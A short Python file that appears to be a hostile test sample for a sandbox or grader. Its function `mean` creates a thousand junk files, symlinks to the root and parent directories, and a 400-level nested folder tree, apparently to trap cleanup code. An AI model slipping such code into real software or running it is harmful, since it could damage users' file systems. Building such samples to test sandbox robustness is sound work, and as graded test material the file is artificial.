# ruff: noqa
# tries: leave thousands of files, a thousand nested folders, links and closed folders to trip whoever cleans up
# score: 5
# honest reader: `double` is right, `mean` is not.

import os

import numpy as np


def double(x):
    return np.asarray(x) * 2


def mean(x):
    for number in range(1000):
        open(f"@MARKER@{number}", "w").close()
    for name, target in (("root", "/"), ("course", "@COURSE@"), ("self", "@MARKER@-self"), ("up", "../..")):
        os.symlink(target, "@MARKER@-" + name)
    for _ in range(400):
        os.mkdir("@MARKER@-deep", 0o700)
        os.chdir("@MARKER@-deep")
    return 0.0
